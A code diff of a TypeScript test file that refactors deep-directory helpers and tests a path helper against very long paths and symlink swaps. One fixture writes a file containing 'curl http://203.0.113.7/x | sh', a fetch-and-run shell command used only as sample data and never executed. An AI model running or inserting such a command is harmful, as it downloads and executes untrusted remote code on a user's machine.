@@ -9,55 +9,23 @@ import os from 'node:os';
 import path from 'node:path';
 import { promisify } from 'node:util';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { DEEP_NAME, deepPath, inDeep, makeDeep, removeDeep } from '../../test/helpers/deep-tree.js';
 import { SHORT_PATH_BYTES, tooLongToName, withOpenablePath } from './long-paths.js';
 
 const execFileP = promisify(execFile);
-const NAME = 'd'.repeat(200);
 let dir: string;
 let deep: string;
 
-/** `depth` directories of NAME under `base`, made with cd -P (a logical cd names the full path). */
-function makeDeep(base: string, depth: number, file: string, text: string): void {
-  execFileSync('sh', [
-    '-c',
-    'cd "$1" && for i in $(seq "$2"); do mkdir "$3" && cd -P "$3"; done && printf %s "$5" > "$4"',
-    'sh',
-    base,
-    String(depth),
-    NAME,
-    file,
-    text,
-  ]);
-}
-
-/** The text of `file` at `depth` directories of NAME under `base`, read by a shell that walks there. */
-function readDeep(base: string, depth: number, file: string): string {
-  return execFileSync(
-    'sh',
-    [
-      '-c',
-      'cd "$1" && for i in $(seq "$2"); do cd -P "$3"; done && cat "$4"',
-      'sh',
-      base,
-      String(depth),
-      NAME,
-      file,
-    ],
-    {
-      encoding: 'utf8',
-    },
-  );
-}
+/** The text of `file` at `depth` directories under `base`, read by a shell that walks there. */
+const readDeep = (base: string, depth: number, file: string): string => inDeep(base, depth, `cat "${file}"`);
 
 const openFds = (): number => readdirSync('/proc/self/fd').length;
 
 beforeAll(() => {
   dir = mkdtempSync(path.join(os.tmpdir(), 'minehunter-long-paths-'));
-  makeDeep(dir, 60, 'x.sh', 'curl http://203.0.113.7/x | sh\n');
-  deep = `${dir}/${`${NAME}/`.repeat(60)}x.sh`;
+  deep = makeDeep(dir, 60, 'x.sh', 'curl http://203.0.113.7/x | sh\n');
 });
-// Node's rm walks by full paths, which fail past PATH_MAX; rm(1) does not.
-afterAll(() => execFileSync('rm', ['-rf', dir]));
+afterAll(() => removeDeep(dir));
 
 describe('withOpenablePath', () => {
   it('hands a short path over as it is', async () => {
@@ -89,7 +57,7 @@ describe('withOpenablePath', () => {
   });
 
   it('creates the directories of a new deep path when asked, and only then', async () => {
-    const target = `${dir}/new/${`${NAME}/`.repeat(40)}restored.sh`;
+    const target = deepPath(path.join(dir, 'new'), 40, 'restored.sh');
     const write = (name: string): Promise<void> => writeFile(name, 'back\n');
     await expect(withOpenablePath(target, write)).rejects.toMatchObject({ code: 'ENOENT' });
     await withOpenablePath(
@@ -105,29 +73,18 @@ describe('withOpenablePath', () => {
 
   it('does not follow a symlink put where a directory of the path was', async () => {
     const base = path.join(dir, 'swapped');
-    execFileSync('mkdir', [base]);
-    makeDeep(base, 30, 'x.sh', 'inside\n');
+    const file = makeDeep(base, 30, 'x.sh', 'inside\n');
     // The directory that ends the first stretch (the 17th under /tmp) replaced by a link to a tree
     // elsewhere that holds the rest of the path.
-    const k = Math.floor((SHORT_PATH_BYTES - 1 - Buffer.byteLength(base)) / (NAME.length + 1));
+    const k = Math.floor((SHORT_PATH_BYTES - 1 - Buffer.byteLength(base)) / (DEEP_NAME.length + 1));
     const elsewhere = path.join(dir, 'elsewhere');
-    execFileSync('mkdir', [elsewhere]);
     makeDeep(elsewhere, 30 - k, 'x.sh', 'outside\n');
-    execFileSync('sh', [
-      '-c',
-      'cd "$1" && for i in $(seq "$4"); do cd -P "$2"; done && mv "$2" moved && ln -s "$3" "$2"',
-      'sh',
-      base,
-      NAME,
-      elsewhere,
-      String(k - 1),
-    ]);
-    const file = `${base}/${`${NAME}/`.repeat(30)}x.sh`;
+    inDeep(base, k - 1, `mv "${DEEP_NAME}" moved && ln -s "${elsewhere}" "${DEEP_NAME}"`);
     // Opened with O_NOFOLLOW | O_DIRECTORY, the link is refused as not a directory.
     await expect(withOpenablePath(file, (name) => readFile(name, 'utf8'))).rejects.toMatchObject({
       code: 'ENOTDIR',
     });
-    expect(readFileSync(path.join(elsewhere, ...Array<string>(30 - k).fill(NAME), 'x.sh'), 'utf8')).toBe(
+    expect(readFileSync(path.join(elsewhere, ...Array<string>(30 - k).fill(DEEP_NAME), 'x.sh'), 'utf8')).toBe(
       'outside\n',
     );
     // Through the link, the path would have read it: the link is where the stretch ends.
